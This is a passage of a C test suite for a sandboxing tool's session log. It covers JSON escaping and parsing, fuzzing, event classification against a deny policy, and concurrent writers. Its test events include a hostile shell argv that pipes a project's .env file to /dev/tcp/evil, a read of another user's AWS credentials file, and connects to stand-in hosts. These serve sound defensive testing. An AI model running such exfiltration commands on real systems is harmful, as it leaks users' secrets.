/* The session log and what reads it: JSON escaping and the strict reader (table of valid and invalid documents,
 * limits, mutation fuzzing), the store (directory and file modes, one line per event, result classification,
 * rule objects, errno names, denial count), concurrent writers and a SIGKILL mid-session, then the real
 * build/guard on those sessions: report (text, JSON checked by python3, HTML checked for escaping), explain
 * (session, --last, inside-the-sandbox via GUARD_POLICY, the current policy), sessions, and usage errors.
 *
 * Everything happens in a private temp dir used as HOME and XDG_STATE_HOME. Hostile strings (quotes, newlines,
 * escape sequences, invalid UTF-8, "<script>", a 4 KiB path) go through every path. */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "guard/event.h"
#include "plan/image_build.h"
#include "lib/json_read.h"
#include "lib/json_write.h"
#include "policy/policy_api.h"
#include "log/session.h"
#include "log/session_read.h"
#include "tap.h"

static char root[256];    /* the private temp dir */
static char home[512];    /* $root/home */
static char project[600]; /* $home/proj */
static char guard_bin[4096];

/* ---- helpers --------------------------------------------------------------------------------------------- */

static char *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	struct guard_buf b = {0};
	char chunk[65536];
	size_t n;
	guard_buf_puts(&b, "");
	while ((n = fread(chunk, 1, sizeof chunk, f)) > 0)
		guard_buf_put(&b, chunk, n);
	fclose(f);
	if (len)
		*len = b.len;
	return b.p;
}

static void put(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static int rm_entry(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st, (void)flag, (void)ftw;
	return remove(p);
}

/* Run build/guard with args (NULL-terminated, without argv[0]); stdin from `input` (may be NULL). Returns the
 * exit status (or 128+signal); out/err receive malloc'd output. */
static int run(const char *const *args, const char *input, char **out, char **err)
{
	char op[] = "/tmp/guard-ts-out-XXXXXX", ep[] = "/tmp/guard-ts-err-XXXXXX";
	int ofd = mkstemp(op), efd = mkstemp(ep);
	const char *argv[32] = {guard_bin};
	size_t n = 1;
	for (; args[n - 1] && n < 31; n++)
		argv[n] = args[n - 1];
	argv[n] = NULL;
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		int in = open(input ? input : "/dev/null", O_RDONLY);
		dup2(in, 0);
		dup2(ofd, 1);
		dup2(efd, 2);
		execv(guard_bin, (char *const *)argv);
		_exit(127);
	}
	int st = 0;
	waitpid(pid, &st, 0);
	close(ofd), close(efd);
	*out = slurp(op, NULL);
	*err = slurp(ep, NULL);
	unlink(op), unlink(ep);
	if (!*out)
		*out = strdup("");
	if (!*err)
		*err = strdup("");
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* Is text valid JSON for python3's strict parser? (1 yes, 0 no, -1 python3 missing) */
static int python_json_ok(const char *text)
{
	if (access("/usr/bin/python3", X_OK) != 0)
		return -1;
	char path[] = "/tmp/guard-ts-json-XXXXXX";
	int fd = mkstemp(path);
	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		return 0;
	close(fd);
	char cmd[512];
	snprintf(cmd, sizeof cmd, "python3 -m json.tool < %s > /dev/null 2>&1", path);
	int st = system(cmd);
	unlink(path);
	return st == 0;
}

static struct guard_json_doc *parse(const char *s)
{
	char err[128];
	return guard_json_parse(s, strlen(s), NULL, err, sizeof err);
}

/* ---- JSON writing ---------------------------------------------------------------------------------------- */

static void test_json_escape(void)
{
	static const struct {
		const char *in, *want;
	} cases[] = {
		{"plain/path.txt", "\"plain/path.txt\""},
		{"q\"uote\\back", "\"q\\\"uote\\\\back\""},
		{"nl\ntab\tcr\r", "\"nl\\ntab\\tcr\\r\""},
		{"esc\x1b[31mred\x7f", "\"esc\\u001b[31mred\\u007f\""},
		{"bad\xff\xfe utf8", "\"bad\\ufffd\\ufffd utf8\""},
		{"trunc\xe2\x82", "\"trunc\\ufffd\\ufffd\""},
		{"overlong\xc0\xaf", "\"overlong\\ufffd\\ufffd\""},
		{"surrogate\xed\xa0\x80", "\"surrogate\\ufffd\\ufffd\\ufffd\""},
		{"ok \xc3\xa9 \xe2\x82\xac \xf0\x9f\x94\x92", "\"ok \xc3\xa9 \xe2\x82\xac \xf0\x9f\x94\x92\""},
		{"ls\xe2\x80\xa8ps\xe2\x80\xa9", "\"ls\\u2028ps\\u2029\""},
		{"<script>alert(1)</script>", "\"<script>alert(1)</script>\""},
		{"", "\"\""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct guard_buf b = {0};
		guard_json_str(&b, cases[i].in);
		TAP_OK(b.p && strcmp(b.p, cases[i].want) == 0, "json escape case %zu", i);
		/* Round trip: what the reader gets back is the input with invalid bytes as U+FFFD. */
		struct guard_json_doc *d = parse(b.p);
		TAP_OK(d && guard_json_root(d)->type == GUARD_JSON_STRING, "escaped case %zu parses back", i);
		guard_json_free(d);
		guard_buf_free(&b);
	}
	struct guard_buf b = {0};
	guard_json_str(&b, NULL);
	TAP_OK(strcmp(b.p, "null") == 0, "NULL string is null");
	guard_buf_free(&b);

	/* Every byte value in a string: the result is valid JSON for python3 too. */
	char all[256];
	for (int i = 1; i < 256; i++)
		all[i - 1] = (char)i;
	all[255] = 0;
	guard_json_str(&b, all);
	int py = python_json_ok(b.p);
	if (py < 0)
		TAP_SKIP("python3 missing", "all 255 byte values escape to valid JSON");
	else
		TAP_OK(py == 1, "all 255 byte values escape to valid JSON (python3)");
	struct guard_json_doc *d = parse(b.p);
	TAP_OK(d != NULL, "all 255 byte values escape to JSON our reader accepts");
	guard_json_free(d);
	guard_buf_free(&b);

	char name[16];
	TAP_OK(strcmp(guard_errno_name(EACCES, name, sizeof name), "EACCES") == 0 &&
		       strcmp(guard_errno_name(EXDEV, name, sizeof name), "EXDEV") == 0 &&
		       strcmp(guard_errno_name(-3, name, sizeof name), "E-3") == 0 &&
		       strcmp(guard_errno_name(99999, name, sizeof name), "E99999") == 0,
	       "errno names: EACCES, EXDEV, and E<n> for unknown values");
}

/* ---- JSON reading --------------------------------------------------------------------------------------- */

static void test_json_read(void)
{
	static const char *const valid[] = {
		"{}",
		"[]",
		"0",
		"-0",
		"1.5e+3",
		"-12.25E-2",
		"true",
		"false",
		"null",
		"\"\"",
		" {\"a\" : [1, 2, {\"b\": null}] } \n",
		"\"\\u00e9\\ud83d\\udd12\\/\\b\\f\"",
		"{\"t\":1732262400123,\"pid\":9223372036854775807}",
		"[[[[[[[[[[]]]]]]]]]]",
	};
	static const char *const invalid[] = {
		"",
		" ",
		"{",
		"}",
		"[1,]",
		"{\"a\":1,}",
		"{\"a\" 1}",
		"{a:1}",
		"[01]",
		"[1.]",
		"[.5]",
		"[1e]",
		"[-]",
		"[+1]",
		"tru",
		"nul",
		"[true false]",
		"\"abc",
		"\"tab\there\"",
		"\"\\x41\"",
		"\"\\u12\"",
		"\"\\ud800\"",
		"\"\\udc00\"",
		"\"\\ud800\\u0041\"",
		"\"\\u0000\"",
		"\"\xff\"",
		"\"\xc0\xaf\"",
		"{\"a\":1,\"a\":2}",
		"[1] [2]",
		"// c\n{}",
		"[NaN]",
		"[Infinity]",
		"'x'",
		"{\"a\":1}x",
		"[1,2",
		"\"\\",
		"[\"\\u",
		"{\"\":",
		"[1111111111111111111111111111111111111111111111111111111111111111111]",
	};
	for (size_t i = 0; i < sizeof valid / sizeof *valid; i++) {
		struct guard_json_doc *d = parse(valid[i]);
		TAP_OK(d != NULL, "valid JSON %zu accepted", i);
		guard_json_free(d);
	}
	size_t rejected = 0;
	for (size_t i = 0; i < sizeof invalid / sizeof *invalid; i++) {
		struct guard_json_doc *d = parse(invalid[i]);
		if (!d)
			rejected++;
		else
			printf("# accepted invalid JSON case %zu\n", i);
		guard_json_free(d);
	}
	TAP_OK(rejected == sizeof invalid / sizeof *invalid, "all %zu invalid documents rejected",
	       sizeof invalid / sizeof *invalid);
	/* Length is what counts, not NUL: a document followed by garbage beyond len parses. */
	const char *s = "[1]GARBAGE";
	struct guard_json_doc *d = guard_json_parse(s, 3, NULL, NULL, 0);
	TAP_OK(d != NULL, "parser stops at len (no NUL needed)");
	guard_json_free(d);

	/* Values and accessors. */
	d = parse("{\"s\":\"a\\\"b\",\"i\":-42,\"f\":1.5,\"b\":true,\"n\":null,\"big\":1e400,\"e\":\"\\u00e9\"}");
	const struct guard_json *r = guard_json_root(d);
	long long i = 0;
	bool bv = false;
	TAP_OK(d && strcmp(guard_json_str_of(r, "s"), "a\"b") == 0, "string value decoded");
	TAP_OK(guard_json_int_of(r, "i", &i) && i == -42, "integer value");
	TAP_OK(!guard_json_int_of(r, "f", &i) && !guard_json_int_of(r, "s", &i) && !guard_json_int_of(r, "zz", &i),
	       "int accessor refuses fractions, strings and missing keys");
	TAP_OK(guard_json_bool_of(r, "b", &bv) && bv && guard_json_is_null(guard_json_get(r, "n")), "bool and null");
	TAP_OK(strcmp(guard_json_str_of(r, "e"), "\xc3\xa9") == 0, "\\u00e9 decodes to UTF-8");
	guard_json_free(d);

	/* Limits: depth, node count, input size. */
	char deep[200];
	memset(deep, '[', 100);
	memset(deep + 100, ']', 100);
	struct guard_json_limits lim = {.depth = 32};
	TAP_OK(!guard_json_parse(deep, 200, &lim, NULL, 0), "100 levels refused with depth 32");
	lim.depth = 100;
	d = guard_json_parse(deep, 200, &lim, NULL, 0);
	TAP_OK(d != NULL, "100 levels accepted with depth 100");
	guard_json_free(d);
	struct guard_buf b = {0};
	guard_buf_puts(&b, "[");
	for (int k = 0; k < 5000; k++)
		guard_buf_puts(&b, k ? ",0" : "0");
	guard_buf_puts(&b, "]");
	struct guard_json_limits small = {.max_nodes = 1000};
	char err[128] = "";
	TAP_OK(!guard_json_parse(b.p, b.len, &small, err, sizeof err) && strstr(err, "values"),
	       "node limit enforced (%s)", err);
	struct guard_json_limits tiny = {.max_len = 100};
	TAP_OK(!guard_json_parse(b.p, b.len, &tiny, err, sizeof err), "size limit enforced");
	guard_buf_free(&b);
	guard_buf_puts(&b, "{");
	for (int k = 0; k < 5000; k++)
		guard_buf_printf(&b, "%s\"k%d\":0", k ? "," : "", k);
	guard_buf_puts(&b, "}");
	TAP_OK(!guard_json_parse(b.p, b.len, NULL, NULL, 0), "objects with more than 4096 keys refused");
	guard_buf_free(&b);
}

/* Mutations of a real event line and random bytes: nothing may crash (this runs under ASan in make SAN=1). */
static void test_json_fuzz(void)
{
	const char *seed = "{\"t\":1732262400123,\"origin\":\"shim\",\"pid\":123,\"ppid\":100,\"op\":\"read\","
			   "\"path\":\"/p/.env\\n\\u00e9\",\"path2\":null,\"cwd\":\"/p\",\"result\":\"denied\","
			   "\"errno\":\"EACCES\",\"rule\":{\"kind\":\"deny\",\"pattern\":\".env\",\"file\":\"rules/"
			   "default.yaml\",\"line\":14,\"col\":7,\"source\":\"profile\"},\"argv\":[\"cat\",\".env\"],"
			   "\"truncated\":false}";
	size_t n = strlen(seed), parsed = 0;
	unsigned seedv = 12345;
	char buf[1024];
	for (int iter = 0; iter < 30000; iter++) {
		memcpy(buf, seed, n);
		size_t len = n;
		int muts = 1 + (int)(rand_r(&seedv) % 4);
		for (int m = 0; m < muts; m++) {
			size_t at = (size_t)rand_r(&seedv) % len;
			switch (rand_r(&seedv) % 4) {
			case 0:
				buf[at] = (char)rand_r(&seedv);
				break;
			case 1:
				len = at + 1;
				break; /* truncate */
			case 2:
				buf[at] = "{}[]\",:\\0"[(size_t)rand_r(&seedv) % 9];
				break;
			default:
				buf[at] ^= (char)(1 << (rand_r(&seedv) % 8));
				break;
			}
		}
		struct guard_session_read_event ev;
		struct guard_json_doc *doc;
		if (guard_session_read_event_parse(buf, len, &ev, &doc) == 0) {
			parsed++;
			guard_session_read_event_free(&ev, doc);
		}
	}
	for (int iter = 0; iter < 20000; iter++) {
		size_t len = (size_t)rand_r(&seedv) % sizeof buf;
		static const char alphabet[] = "{}[]\",:0123456789.eE-+tfnul\\ \"\x80\xff";
		for (size_t k = 0; k < len; k++)
			buf[k] = alphabet[(size_t)rand_r(&seedv) % (sizeof alphabet - 1)];
		struct guard_json_doc *d = guard_json_parse(buf, len, NULL, NULL, 0);
		guard_json_free(d);
	}
	TAP_OK(1, "50000 mutated and random inputs parsed without a crash (%zu mutants were still valid events)",
	       parsed);
}

/* ---- the store ------------------------------------------------------------------------------------------ */

static const char policy_yaml[] = "files:\n"
				  "  read:\n"
				  "    - /usr\n"
				  "    - /etc\n"
				  "  write:\n"
				  "    - $PROJECT\n"
				  "    - $TMP\n"
				  "  deny:\n"
				  "    - .env\n"
				  "    - \"!.env.example\"\n"
				  "    - secrets/\n"
				  "  protect:\n"
				  "    - .git/config\n";

static void build_image(void **img, size_t *len, struct guard_image *out)
{
	struct guard_policy p;
	struct guard_error e;
	guard_policy_init(&p);
	int rc = guard_policy_load_yaml(&p, "test.yaml", policy_yaml, strlen(policy_yaml), GUARD_SRC_PROFILE, &e);
	if (rc != 0) {
		printf("Bail out! test policy: %s:%u:%u: %s\n", e.file, e.line, e.col, e.message);
		exit(1);
	}
	p.profile = strdup("testprofile");
	/* $TMP elsewhere than the test's own temp dir, or its write rule would cover the project too. */
	struct guard_image_params prm = {.home = home,
					 .project = project,
					 .tmpdir = "/var/guard-test-no-tmp",
					 .flags = GUARD_IMAGE_NAMESPACES,
					 .abi = 6};
	guard_image_build(&p, &prm, img, len);
	guard_policy_free(&p);
	if (guard_image_load(out, *img, *len) != 0) {
		printf("Bail out! test image does not load\n");
		exit(1);
	}
}

static struct guard_event ev_of(enum guard_op op, const char *path, int err, const char *argv, unsigned nargv)
{
	struct guard_event e = {.op = op,
				.origin = GUARD_ORIGIN_SHIM,
				.err = err,
				.pid = 1001,
				.ppid = 1000,
				.path = path,
				.cwd = project,
				.argv = argv,
				.nargv = nargv};
	return e;
}

/* The n-th line of events.jsonl (0-based), parsed. */
static int line_of(const char *dir, int n, struct guard_session_read_event *ev, struct guard_json_doc **doc)
{
	char path[4096];
	snprintf(path, sizeof path, "%s/events.jsonl", dir);
	char *all = slurp(path, NULL), *p = all;
	for (int i = 0; p && i < n; i++) {
		p = strchr(p, '\n');
		if (p)
			p++;
	}
	int rc = -1;
	if (p && *p) {
		char *nl = strchr(p, '\n');
		rc = guard_session_read_event_parse(p, nl ? (size_t)(nl - p) : strlen(p), ev, doc);
	}
	free(all);
	return rc;
}

static bool rule_is(const struct guard_session_read_event *ev, const char *kind, const char *pattern, long long line)
{
	return ev->has_rule && strcmp(ev->rule.kind, kind) == 0 && strcmp(ev->rule.pattern, pattern) == 0 &&
	       strcmp(ev->rule.file, "test.yaml") == 0 && ev->rule.line == line && ev->rule.col == 7 &&
	       strcmp(ev->rule.source, "profile") == 0;
}

static bool count_events(const struct guard_session_read_event *ev, void *ctx)
{
	(void)ev;
	++*(unsigned long *)ctx;
	return true;
}

static char hostile_id[128];
static char long_path[4200];

static void test_store(void)
{
	char *r = guard_session_root();
	char want[700];
	snprintf(want, sizeof want, "%s/state/guard/sessions", root);
	TAP_OK(strcmp(r, want) == 0, "session root under $XDG_STATE_HOME");
	free(r);
	setenv("XDG_STATE_HOME", "relative/ignored", 1);
	r = guard_session_root();
	snprintf(want, sizeof want, "%s/.local/state/guard/sessions", home);
	TAP_OK(strcmp(r, want) == 0, "relative XDG_STATE_HOME ignored: ~/.local/state");
	free(r);
	snprintf(want, sizeof want, "%s/state", root);
	setenv("XDG_STATE_HOME", want, 1);

	char *a = guard_session_new_id(), *b = guard_session_new_id();
	TAP_OK(strlen(a) == 23 && a[8] == 'T' && a[15] == 'Z' && a[16] == '-' && strcmp(a, b) != 0,
	       "new ids look like 20261122T070501Z-3fa2c1 and differ (%s)", a);
	free(a), free(b);

	void *img_buf;
	size_t img_len;
	struct guard_image img;
	build_image(&img_buf, &img_len, &img);

	char why[512] = "";
	struct guard_session_info bad = {.id = "../escape"};
	TAP_OK(!guard_session_create(&bad, img_buf, img_len, why, sizeof why) && why[0],
	       "an id with a slash is refused (%s)", why);

	char *argv[] = {"agent", "--say", "it's \"quoted\"\n<script>alert(1)</script>", "\x1b]0;pwned\x07\xff", NULL};
	struct guard_session_info info = {.id = "20260101T000000Z-aaaaaa",
					  .argv = argv,
					  .cwd = project,
					  .project = project,
					  .home = home,
					  .profile = "testprofile",
					  .mode = "namespaces",
					  .abi = 6,
					  .shim = true,
					  .observer = true};
	struct guard_session *s = guard_session_create(&info, img_buf, img_len, why, sizeof why);
	TAP_OK(s != NULL, "session created (%s)", why);
	if (!s)
		exit(1);
	snprintf(hostile_id, sizeof hostile_id, "%s", info.id);
	const char *dir = guard_session_dir(s);
	struct stat st;
	TAP_OK(stat(dir, &st) == 0 && (st.st_mode & 0777) == 0700, "session dir is 0700");
	char p[4096];
	bool modes = true;
	const char *files[] = {"session.json", "events.jsonl", "policy.img"};
	for (int i = 0; i < 3; i++) {
		snprintf(p, sizeof p, "%s/%s", dir, files[i]);
		modes &= stat(p, &st) == 0 && (st.st_mode & 0777) == 0600;
	}
	TAP_OK(modes, "session.json, events.jsonl and policy.img are 0600");
	snprintf(p, sizeof p, "%s/policy.img", dir);
	size_t got = 0;
	char *copy = slurp(p, &got);
	TAP_OK(copy && got == img_len && memcmp(copy, img_buf, img_len) == 0, "policy.img is the image, byte for byte");
	free(copy);
	TAP_OK(!guard_session_create(&info, img_buf, img_len, why, sizeof why), "the same id twice is refused");

	/* The events, one per classification case. */
	char envp[700], envx[700], gitcfg[700], dbp[700], usrx[700], modep[700];
	snprintf(envp, sizeof envp, "%s/.env", project);
	snprintf(envx, sizeof envx, "%s/.env.example", project);
	snprintf(gitcfg, sizeof gitcfg, "%s/.git/config", project);
	snprintf(dbp, sizeof dbp, "%s/secrets/db.txt", project);
	snprintf(usrx, sizeof usrx, "/usr/bin/newfile");
	snprintf(modep, sizeof modep, "%s/mode000.txt", project);
	/* A 4 KiB hostile path: quotes, newline, ESC, invalid UTF-8, <script>. */
	int o = snprintf(long_path, sizeof long_path, "%s/secrets/<script>alert(\"x\")</script>\n\x1b[2J\xff\xfe-",
			 project);
	for (; o < 4095; o++)
		long_path[o] = (char)('a' + o % 26);
	long_path[4095] = 0;
	const char cat_argv[] = "cat\0.env";
	const char evil_argv[] = "sh\0-c\0echo \"$(cat .env)\" > /dev/tcp/evil\n\x1b[31m\xff";
	struct guard_event evs[] = {
		ev_of(GUARD_OP_EXEC, "/usr/bin/cat", 0, cat_argv, 2),                  /* 0 allowed exec */
		ev_of(GUARD_OP_READ, envp, EACCES, NULL, 0),                           /* 1 denied by deny .env */
		ev_of(GUARD_OP_READ, envx, 0, NULL, 0),                                /* 2 allowed (re-allowed) */
		ev_of(GUARD_OP_READ, dbp, EACCES, NULL, 0),                            /* 3 denied by secrets/ */
		ev_of(GUARD_OP_WRITE, gitcfg, EROFS, NULL, 0),                         /* 4 denied by protect */
		ev_of(GUARD_OP_WRITE, usrx, EACCES, NULL, 0),                          /* 5 denied: read-only tree */
		ev_of(GUARD_OP_READ, modep, EACCES, NULL, 0),                          /* 6 failed: file mode */
		ev_of(GUARD_OP_READ, "src/missing.c", ENOENT, NULL, 0),                /* 7 failed: ENOENT, relative */
		ev_of(GUARD_OP_READ, "/home/other/.aws/credentials", EACCES, NULL, 0), /* 8 default deny */
		ev_of(GUARD_OP_EXEC, "/bin/sh", 0, evil_argv, 3),                      /* 9 hostile argv */
		ev_of(GUARD_OP_READ, long_path, EACCES, NULL, 0),                      /* 10 4 KiB hostile path */
		ev_of(GUARD_OP_CONNECT, "evil.example:443", ECONNREFUSED, NULL, 0),    /* 11 failed connect */
		ev_of(GUARD_OP_CONNECT, "api.example:443", EACCES, NULL, 0),           /* 12 denied connect */
		ev_of(GUARD_OP_RENAME, envp, EXDEV, NULL, 0),                          /* 13 rename of a denied path */
	};
	evs[11].origin = GUARD_ORIGIN_OBSERVER;
	evs[13].path2 = "moved";
	evs[10].flags = GUARD_EVF_TRUNCATED;
	/* A small tree: sh (1000) started cat (1001, the default sender) and python3 (1002). */
	evs[9].pid = 1000;
	evs[9].ppid = 999;
	/* The sender names the rule for .env (1 + index of the deny rule) as the shim does. */
	for (uint32_t k = 0; k < img.h->nrules; k++)
		if (img.rules[k].kind == GUARD_DENY && strcmp(guard_image_str(&img, img.rules[k].written), ".env") == 0)
			evs[1].rule = k + 1;
	/* And one event through the wire format, as the supervisor gets them. */
	char wire[GUARD_EVENT_MAX];
	char *wargv[] = {"python3", "-c", "open('.env')", NULL};
	struct guard_event w0 = ev_of(GUARD_OP_EXEC, "/usr/bin/python3", 0, NULL, 0), wdec;
	w0.pid = 1002;
	size_t wlen = guard_event_encode(wire, sizeof wire, &w0, wargv);
	TAP_OK(wlen > 0 && guard_event_decode(wire, wlen, &wdec) == 0, "an event survives encode/decode");
	size_t nev = sizeof evs / sizeof *evs;
	for (size_t k = 0; k < nev; k++)
		guard_session_event(s, &evs[k], &img, evs[k].pid);
	guard_session_event(s, &wdec, &img, wdec.pid);
	/* execvp's PATH walk as the shim logs it: the attempt, then its failure. No process started there. */
	struct guard_event try1 = ev_of(GUARD_OP_EXEC, "/opt/nothere/python3", 0, "python3\0-V", 2), try2 = try1;
	try1.pid = try2.pid = 1003;
	try2.err = ENOENT;
	guard_session_event(s, &try1, &img, 1003);
	guard_session_event(s, &try2, &img, 1003);
	/* The network proxy's line for a refused host (its own writer, same file). */
	struct guard_net_event net = {.host = "pastebin.example",
				      .port = 443,
				      .via = "connect",
				      .result = "denied",
				      .reason = "not in network.allow"};
	guard_session_net(s, &net);
	const size_t extra = 4; /* events logged besides evs[] */

	static const struct {
		const char *result, *err, *kind, *pattern;
		long long line;
	} want_ev[] = {
		{"allowed", NULL, "read", "/usr", 3},
		{"denied", "EACCES", "deny", ".env", 9},
		{"allowed", NULL, "write", "$PROJECT", 6},
		{"denied", "EACCES", "deny", "secrets/", 11},
		{"denied", "EROFS", "protect", ".git/config", 13},
		{"denied", "EACCES", NULL, NULL, 0},
		{"failed", "EACCES", "write", "$PROJECT", 6},
		{"failed", "ENOENT", "write", "$PROJECT", 6},
		{"denied", "EACCES", NULL, NULL, 0},
		{"allowed", NULL, NULL, NULL, 0},
		{"denied", "EACCES", "deny", "secrets/", 11},
		{"failed", "ECONNREFUSED", NULL, NULL, 0},
		{"denied", "EACCES", NULL, NULL, 0},
		{"denied", "EXDEV", "deny", ".env", 9},
	};
	for (size_t k = 0; k < nev; k++) {
		struct guard_session_read_event ev;
		struct guard_json_doc *doc;
		bool ok = line_of(dir, (int)k, &ev, &doc) == 0;
		ok = ok && strcmp(ev.result, want_ev[k].result) == 0;
		ok = ok && (want_ev[k].err ? ev.err && strcmp(ev.err, want_ev[k].err) == 0 : !ev.err);
		if (ok && want_ev[k].kind)
			ok = rule_is(&ev, want_ev[k].kind, want_ev[k].pattern, want_ev[k].line);
		else if (ok)
			ok = !ev.has_rule;
		TAP_OK(ok, "event %zu: %s %s%s%s", k, want_ev[k].result, want_ev[k].err ? want_ev[k].err : "",
		       want_ev[k].kind ? " by " : "", want_ev[k].kind ? want_ev[k].kind : "");
		if (k == 9)
			TAP_OK(ok && ev.nargv == 3 &&
				       strcmp(ev.argv[2],
					      "echo \"$(cat .env)\" > /dev/tcp/evil\n\x1b[31m\xef\xbf\xbd") == 0,
			       "hostile argv round-trips (invalid byte as U+FFFD)");
		if (k == 10)
			TAP_OK(ok && strlen(ev.path) == 4095 + 4 && ev.truncated,
			       "4 KiB path with two invalid bytes round-trips (each now 3 bytes), truncated flag kept");
		if (k == 13)
			TAP_OK(ok && ev.path2 && strcmp(ev.path2, "moved") == 0 && ev.abs2 &&
				       strstr(ev.abs2, "/proj/moved"),
			       "rename keeps path2, resolved against cwd");
		if (k == 1)
			TAP_OK(ok && ev.pid == 1001 && ev.ppid == 1000 && ev.t > 1600000000000LL &&
				       strcmp(ev.origin, "shim") == 0 && strcmp(ev.op, "read") == 0,
			       "pid, ppid, t, origin and op recorded");
		if (ok || doc)
			guard_session_read_event_free(&ev, doc);
	}
	struct guard_session_read_event ev;
	struct guard_json_doc *doc;
	TAP_OK(line_of(dir, (int)nev, &ev, &doc) == 0 && ev.argv && ev.nargv == 3 &&
		       strcmp(ev.argv[2], "open('.env')") == 0,
	       "wire-decoded exec logged with argv");
	guard_session_read_event_free(&ev, doc);

	/* Key order is part of the format (session.h). */
	snprintf(p, sizeof p, "%s/events.jsonl", dir);
	char *all = slurp(p, NULL);
	const char *keys[] = {
		"{\"t\":",   ",\"origin\":", ",\"pid\":",   ",\"ppid\":", ",\"op\":",   ",\"path\":",     ",\"path2\":",
		",\"cwd\":", ",\"result\":", ",\"errno\":", ",\"rule\":", ",\"argv\":", ",\"truncated\":"};
	const char *q = all;
	bool ordered = true;
	for (size_t k = 0; k < sizeof keys / sizeof *keys && q; k++) {
		q = strstr(q, keys[k]);
		ordered &= q != NULL;
	}
	TAP_OK(ordered, "event keys in the documented order");
	size_t lines = 0;
	for (const char *c = all; c && *c; c++)
		lines += *c == '\n';
	TAP_OK(lines == nev + extra, "one line per event (%zu)", lines);
	/* Each line valid for python3 too. */
	struct guard_buf arr = {0};
	guard_buf_puts(&arr, "[");
	for (char *line = all, *nl; line && (nl = strchr(line, '\n')); line = nl + 1) {
		if (line != all)
			guard_buf_puts(&arr, ",");
		guard_buf_put(&arr, line, (size_t)(nl - line));
	}
	guard_buf_puts(&arr, "]");
	int py = python_json_ok(arr.p);
	if (py < 0)
		TAP_SKIP("python3 missing", "every event line is valid JSON for python3");
	else
		TAP_OK(py == 1, "every event line is valid JSON for python3");
	guard_buf_free(&arr);
	free(all);

	TAP_OK(guard_session_finish(s, 3) == 9, "finish returns the number of denials (9)");
	TAP_OK(guard_session_finish(NULL, 0) == 0, "finish(NULL) is harmless");
	struct guard_session_read ss;
	snprintf(p, sizeof p, "%s/state/guard/sessions/%s", root, hostile_id);
	TAP_OK(guard_session_read_open(&ss, p, why, sizeof why) == 0 && ss.finished && ss.exit == 3 &&
		       ss.denials == 9 && ss.events == (long long)(nev + extra) && ss.nargv == 4 && ss.have_image &&
		       ss.shim && ss.observer && strcmp(ss.argv[3], "\x1b]0;pwned\x07\xef\xbf\xbd") == 0 &&
		       strcmp(ss.mode, "namespaces") == 0,
	       "session.json rewritten at the end: exit, counts, argv, mode, image");
	guard_session_read_close(&ss);

	/* Garbage appended (a torn write, a hostile edit): counted and skipped by readers. */
	snprintf(p, sizeof p, "%s/state/guard/sessions/%s/events.jsonl", root, hostile_id);
	FILE *f = fopen(p, "a");
	fputs("{\"t\":1,\"op\":\"read\"\nnot json at all\n{\"op\":\"read\",\"result\":\"denied\",\"path\":5}\n"
	      "[1,2,3]\n{\"op\":\"read\",\"result\":\"allowed\",\"path\":\"/"
	      "x\",\"rule\":{\"kind\":1}}\n{\"op\":\"read\"",
	      f);
	fclose(f);
	snprintf(p, sizeof p, "%s/state/guard/sessions/%s", root, hostile_id);
	guard_session_read_open(&ss, p, why, sizeof why);
	struct guard_session_read_stats stt;
	unsigned long count = 0;
	guard_session_read_events(&ss, count_events, &count, &stt);
	guard_session_read_close(&ss);
	TAP_OK(count == nev + extra, "readers still get every valid event (%lu)", count);
	TAP_OK(stt.malformed == 5 && stt.partial && stt.lines == nev + extra + 5,
	       "5 malformed lines counted, the unterminated last one is 'partial' (%lu, %lu)", stt.malformed,
	       stt.lines);
	free(img_buf);
}

/* ---- concurrent writers, SIGKILL -------------------------------------------------------------------------- */

#define WRITERS 20
#define PER_WRITER 200
static char calm_id[64], killed_id[64];

static bool check_concurrent(const struct guard_session_read_event *ev, void *ctx)
{
	unsigned char *seen = ctx;
	const char *m = ev->path ? strstr(ev->path, "/c") : NULL;
	int c, i, len;
	if (m && sscanf(m, "/c%d-%d-%d-", &c, &i, &len) == 3 && c >= 0 && c < WRITERS && i >= 0 && i < PER_WRITER) {
		const char *tail = strrchr(ev->path, '-') + 1;
		bool intact = (int)strlen(tail) == len && strspn(tail, "x") == (size_t)len;
		seen[c * PER_WRITER + i] += intact ? 1 : 100;
	}
	return true;
}

static void test_concurrent_and_kill(void)
{
	void *img_buf;
	size_t img_len;
	struct guard_image img;
	build_image(&img_buf, &img_len, &img);
	char why[512];
	char *argv[] = {"make", "-j8", NULL};
	struct guard_session_info info = {.id = "20260102T000000Z-bbbbbb",
					  .argv = argv,
					  .cwd = project,
					  .project = project,
					  .home = home,
					  .profile = "testprofile",
					  .mode = "landlock-only",
					  .abi = 4,
					  .shim = true,
					  .observer = false,
					  .unobserved = "raw syscalls: the observer was off"};
	usleep(5000); /* sessions are ordered by start time (ms) */
	struct guard_session *s = guard_session_create(&info, img_buf, img_len, why, sizeof why);
	TAP_OK(s != NULL, "second session created");
	if (!s)
		exit(1);
	snprintf(calm_id, sizeof calm_id, "%s", info.id);
	/* Writers share the descriptor, as processes forked by the supervisor would: lines must not interleave. */
	pid_t kids[WRITERS];
	for (int c = 0; c < WRITERS; c++) {
		fflush(stdout);
		kids[c] = fork();
		if (kids[c] == 0) {
			char path[4096];
			for (int i = 0; i < PER_WRITER; i++) {
				int len = (c * 131 + i * 17) % 3000;
				int o = snprintf(path, sizeof path, "%s/c%d-%d-%d-", project, c, i, len);
				memset(path + o, 'x', (size_t)len);
				path[o + len] = 0;
				struct guard_event e = ev_of(GUARD_OP_READ, path, 0, NULL, 0);
				guard_session_event(s, &e, &img, getpid());
			}
			_exit(0);
		}
	}
	bool all_ok = true;
	for (int c = 0; c < WRITERS; c++) {
		int st;
		all_ok &= waitpid(kids[c], &st, 0) == kids[c] && WIFEXITED(st) && WEXITSTATUS(st) == 0;
	}
	TAP_OK(all_ok, "%d writer processes finished", WRITERS);
	char dir[4096];
